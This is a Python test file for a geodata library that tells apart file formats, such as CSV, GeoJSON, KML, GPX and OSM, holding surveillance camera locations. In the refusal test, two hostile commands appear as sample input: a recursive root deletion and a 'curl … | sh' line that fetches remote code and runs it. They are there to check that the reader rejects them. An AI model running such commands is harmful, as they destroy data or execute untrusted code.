"""Which reader reads what: decided by what is in a file."""

import gzip
import io
import json
import zipfile

import pytest

from sightlines.errors import SourceRefusedError
from sightlines.sources.content import Content
from sightlines.sources.register import BY_ID, FORMATS, detect, read
from sightlines.sources.table_reading import ReadingOptions

FEATURE = b'{"type":"Feature","geometry":{"type":"Point","coordinates":[1,2]}}'
KML = b"<kml><Placemark><Point><coordinates>1,2</coordinates></Point></Placemark></kml>"
GPX = b'<gpx version="1.1"><wpt lat="2" lon="1"/></gpx>'
OSM = (
    b'<osm version="0.6"><node id="1" lat="2" lon="1">'
    b'<tag k="man_made" v="surveillance"/></node></osm>'
)
ELEMENTS = (
    b'{"elements":[{"type":"node","id":1,"lat":2,"lon":1,"tags":{"man_made":"surveillance"}}]}'
)
XML = b"<cams><cam><lat>2</lat><lon>1</lon></cam><cam><lat>2</lat><lon>1</lon></cam></cams>"


def zipped(**files):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("_", "."), content)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"lon,lat\n1,2\n", "csv"),
        (FEATURE, "geojson"),
        (b"\xef\xbb\xbf " + FEATURE, "geojson"),
        (b"\x1e" + FEATURE + b"\n\x1e" + FEATURE + b"\n", "geojson"),
        (FEATURE.decode().encode("utf-16"), "geojson"),
        (ELEMENTS, "overpass"),
        (b'[{"lat":2,"lon":1}]', "json"),
        (b'{"lat":2,"lon":1}\n{"lat":2,"lon":1}\n', "json"),
        (KML, "kml"),
        (GPX, "gpx"),
        (OSM, "osm_xml"),
        (XML, "xml"),
        (gzip.compress(b"lon,lat\n1,2\n", mtime=0), "csv"),
        (zipped(cameras_csv=b"lon,lat\n1,2\n"), "csv"),
        (zipped(doc_kml=KML), "kml"),
    ],
)
@pytest.mark.parametrize("name", ["", "cameras.csv", "cameras.geojson", "cameras.xml"])
def test_read_knows_a_format_by_its_content_whatever_it_is_called(content, expected, name):
    reading = read(Content.of_bytes(content, name))
    assert reading.format == expected
    assert set(reading.observations["lon"].to_pylist()) == {1.0}
    assert set(reading.observations["lat"].to_pylist()) == {2.0}


def test_detect_knows_an_extract(sample_pbf):
    assert detect(Content.of_path(sample_pbf))[0] is BY_ID["osm_pbf"]


def test_formats_say_what_they_are_called():
    assert len({row.id for row in FORMATS}) == len(FORMATS)
    assert all(row.extensions and "/" in row.media_type for row in FORMATS)


def test_read_takes_the_kind_that_is_said_for_rows_that_name_none(shared_data):
    path = shared_data / "cameras" / "uz_speedcams.csv"
    content = Content.of_path(path)
    said = read(content, ReadingOptions(kind="guard")).observations["kind"].to_pylist()
    rows = path.read_text(encoding="utf-8").splitlines()[1:]
    expected = {"speed_camera": "enforcement", "alpr": "alpr", "traffic_camera": "cctv"}
    assert said == [expected[row.split(",")[5]] for row in rows]


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("x.osm.pbf", b"lon,lat\n1,2\n", "called .pbf"),
        ("x.csv", b"", "empty"),
        ("x.csv", b" \n\n ", "empty"),
        ("x.geojson", b"import os\nos.system('rm -rf /')\n", "longitude and latitude"),
        ("x.geojson", b"#!/bin/sh\ncurl example.org | sh\n", "program"),
        ("x.json", json.dumps({"a": 1}).encode(), "."),
        ("x.html", b"<!doctype html><html><body>404</body></html>", "web page"),
        ("x.csv", b"%PDF-1.7 ...", "PDF"),
        ("x.csv", b"\x89PNG\r\n\x1a\n....", "picture"),
    ],
)
def test_read_refuses_the_rest_with_a_sentence(name, content, words):
    with pytest.raises(SourceRefusedError, match=words) as refused:
        read(Content.of_bytes(content, name))
    assert str(refused.value).endswith(".")


def test_read_refuses_what_cannot_be_opened(tmp_path):
    for path in (tmp_path, tmp_path / "none.csv"):
        with pytest.raises(SourceRefusedError, match="cannot be opened"):
            read(Content.of_path(path))
